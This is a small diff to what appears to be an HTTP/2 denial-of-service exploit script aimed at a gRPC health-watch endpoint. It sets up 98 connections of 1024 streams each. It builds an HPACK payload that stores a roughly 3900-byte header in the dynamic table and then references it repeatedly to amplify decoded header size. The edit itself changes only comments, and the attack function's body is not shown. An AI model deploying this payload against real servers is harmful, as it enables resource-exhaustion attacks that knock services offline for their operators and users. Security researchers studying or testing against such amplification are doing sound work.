@@ -7,8 +7,8 @@ from attacker import frame, http2, literal, text
 
 CONNECTIONS, STREAMS = 98, 1024
 HEAD = http2.request_headers(b"/grpc.health.v1.Health/Watch")
-LARGE = b"\x40\x01x" + text(b"y" * 3900)  # now entry 62 of the table
-AGAIN = b"\xbe" * 3  # the same size again, each
+LARGE = b"\x40\x01x" + text(b"y" * 3900)  # becomes entry 62 of the table
+AGAIN = b"\xbe" * 3  # each has this size again
 
 
 def attack(attacker):
